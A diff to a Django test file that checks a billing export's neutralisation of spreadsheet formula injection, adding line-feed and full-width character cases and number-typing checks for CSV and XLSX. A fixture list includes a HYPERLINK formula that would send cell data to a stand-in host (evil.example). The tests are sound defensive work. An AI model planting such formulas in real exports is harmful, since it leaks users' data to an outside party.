@@ -16,7 +16,7 @@ from django.db import connection
 from django.http import StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
 from openpyxl import load_workbook
 
 from billing.exports import rows
@@ -34,10 +34,30 @@ NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+32 9 264 11 11", "-
 @pytest.mark.parametrize(("value", "expected"), [
     ("=1+1", "'=1+1"), ("+32 9 264 11 11", "'+32 9 264 11 11"), ("-5", "'-5"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Acme NV", "Acme NV"),
-    ("", ""), (D("-5.00"), D("-5.00")), (7, 7), (None, None), (START, START),
+    ("\n=1+1", "'\n=1+1"), ("\n", "'\n"),  # a line feed hides the formula on the second line
+    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("\uff0b32 9", "'\uff0b32 9"),  # full-width = and +
+    ("\uff0d5", "'\uff0d5"), ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # full-width - and @
+    ("a\n=1", "a\n=1"), (" =1", " =1"), ("'=1", "'=1"), ("12.50", "12.50"),
+    ("-12.50", "'-12.50"),  # text that looks like a number is still text
+    ("", ""), (D("-5.00"), D("-5.00")), (D("-12.50"), D("-12.50")), (-3, -3), (-1.5, -1.5),
+    (7, 7), (None, None), (START, START),
 ])
 def test_neutralise(value, expected):
     assert neutralise(value) == expected
+
+
+def test_negative_amounts_stay_numbers_unprefixed_in_csv_and_xlsx(tmp_path):
+    """Amounts are typed as numbers (Decimal, int): in CSV they are written as they are, with a
+    decimal comma and no apostrophe; in XLSX they are number cells that sum."""
+    line = [D("-12.50"), D("-0.01"), -3, "-12.50", "\n=1+1"]
+    header, written = read_csv(stream_csv([["a", "b", "c", "d", "e"], line]))
+    assert written == ["-12,50", "-0,01", "-3", "'-12.50", "'\n=1+1"]
+    path = tmp_path / "amounts.xlsx"
+    with path.open("wb") as target:
+        write_xlsx([["a", "b", "c", "d", "e"], line], target)
+    cells = load_workbook(path).active[2]
+    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"]
+    assert [cell.value for cell in cells] == [-12.5, -0.01, -3, "'-12.50", "'\n=1+1"]
 
 
 def invoice(edition, day, name="An Peeters", **buyer):
@@ -69,7 +89,8 @@ def read_csv(chunks):
 
 
 def test_csv_reads_back_neutralised_and_within_the_period(edition, march):
-    table = rows.table(rows.INVOICES, edition.course.organizer, START, END)
+    with translation.override("en"):
+        table = rows.table(rows.INVOICES, edition.course.organizer, START, END)
     header, *lines = read_csv(stream_csv(table.all_rows()))
     assert header[:3] == ["Number", "Issue date", "Due date"]
     assert [line[0] for line in lines] == [inv.number for inv in march]
@@ -80,7 +101,7 @@ def test_csv_reads_back_neutralised_and_within_the_period(edition, march):
 
 def test_xlsx_reads_back_with_numbers_and_no_formulas(edition, march, tmp_path):
     path = tmp_path / "invoices.xlsx"
-    with path.open("wb") as target:
+    with path.open("wb") as target, translation.override("en"):
         write_xlsx(rows.table(rows.INVOICES, edition.course.organizer, START, END).all_rows(),
                    target, title="invoices")
     sheet = load_workbook(path).active
